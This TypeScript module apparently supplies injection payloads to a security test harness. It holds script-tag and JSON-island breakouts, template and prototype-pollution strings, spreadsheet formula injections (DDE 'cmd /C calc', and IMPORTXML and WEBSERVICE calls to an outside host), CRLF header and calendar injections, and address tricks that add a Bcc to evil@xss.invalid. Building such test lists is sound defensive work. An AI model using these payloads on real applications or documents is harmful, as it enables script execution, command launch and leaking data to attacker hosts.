import type { Attack } from './pieces.ts'

/** Attacks on a text inside a script or a JSON data island. */
const scripts: readonly Attack[] = [
  ({ call }) => `</script><script>${call}</script>`,
  ({ call }) => `<!--<script></script><script>${call}</script>`,
  ({ call }) => `"}</script><script>${call}</script>{"`,
  ({ call }) => `";${call};"`,
  ({ call }) => `';${call};'`,
  ({ call }) => `\\";${call};//`,
  ({ call }) => `\\u0022;${call};//`,
  ({ call }) => `\${${call}}`,
  ({ call }) => `\`;${call};\``,
  ({ call }) => `\u2028${call}//`,
  ({ call }) => `*/${call}//`,
  ({ call }) => `});${call};({`,
  ({ call }) => `{{constructor.constructor('${call}')()}}`,
  ({ call }) => `{constructor.constructor("${call}")()}`,
  ({ call }) => `<%= ${call} %>`,
  ({ call }) => `#{${call}}`,
  ({ call }) => `[[\${${call}}]]`,
  ({ call }) => `$& $1 $\` $' ${call}`,
  ({ call }) => `{"__proto__":{"innerHTML":"<img src=x onerror=${call}>"}}`,
  ({ call }) => `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${call}>"}}`,
  ({ call }) => `{"@context":"x"}</script><svg onload=${call}>`,
]

const executed: readonly Attack[] = [
  ({ call }) => `=HYPERLINK("javascript:${call}","press")`,
  ({ elsewhere }) => `=IMPORTXML("http:${elsewhere}","//a")`,
  ({ elsewhere }) => `=WEBSERVICE("http:${elsewhere}")`,
  ({ elsewhere }) => `=IMAGE("http:${elsewhere}")`,
  () => "=cmd|' /C calc'!A0",
  () => '=DDE("cmd";"/C calc";"x")',
  () => '@SUM(1+1)*cmd|" /C calc"!A0',
  () => '+2+5+cmd|" /C calc"!A0',
  () => '-2+3+cmd|" /C calc"!A0',
  () => '\t=1+1',
  () => '\r=1+1',
  () => '\n=1+1',
  () => '＝1+1',
  () => '＋1',
  () => '－1+1',
  () => '＠SUM(1)',
  () => '","=1+1","',
  () => 'x\n=1+1',
  () => 'x;=1+1;x',
  () => 'x\t=1+1',
  () => '"=1+1"',
  () => "'=1+1",
  () => ' =1+1',
  () => '\u200b=1+1',
  () => '\ufeff=1+1',
  () => '|calc',
  () => '%0A=1+1',
]

/** Lines that would become a header, a property or a MIME part. */
const lines = [
  'Bcc: evil@xss.invalid',
  'Content-Type: text/html\r\n\r\n<script>alert(1)</script>',
  'Location: //xss.invalid/',
  'Set-Cookie: session=evil',
  'END:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:evil',
  'ATTACH:http://xss.invalid/x',
  'X-ALT-DESC;FMTTYPE=text/html:<img src=x onerror=alert(1)>',
  '.\r\nMAIL FROM:<evil@xss.invalid>',
]
const lineEnds = [
  '\r\n',
  '\n',
  '\r',
  '\r\n ',
  '\u2028',
  '\u0085',
  '%0d%0a',
  '%250d%250a',
  '\\r\\n',
  '\0\r\n',
  '嘊嘍',
]

const linesMore: readonly Attack[] = lineEnds.flatMap((end) =>
  lines.map(
    (line): Attack =>
      () =>
        `x${end}${line}`,
  ),
)

const mailNames: readonly Attack[] = [
  () => '"evil@xss.invalid" <evil@xss.invalid>',
  () => 'x>, <evil@xss.invalid',
  () => 'x, evil@xss.invalid',
  () => 'x; evil@xss.invalid',
  () => 'group: evil@xss.invalid;',
  () => '"x" (comment',
  () => 'x\\"',
  () => '=?utf-8?q?=0D=0ABcc:_evil@xss.invalid?=',
  () => '=?utf-8?b?DQpCY2M6IGV2aWxAeHNzLmludmFsaWQ=?=',
  () => '=?utf-8?q?x?= =?utf-8?q?_=3Cevil=40xss.invalid=3E?=',
  () => '=?x',
  () => 'x:DQUOTE;CN="evil":mailto:evil@xss.invalid',
  () => "^n^'END:VEVENT",
]

export const formats = { scripts, formulas: executed, lines: linesMore, mailNames }
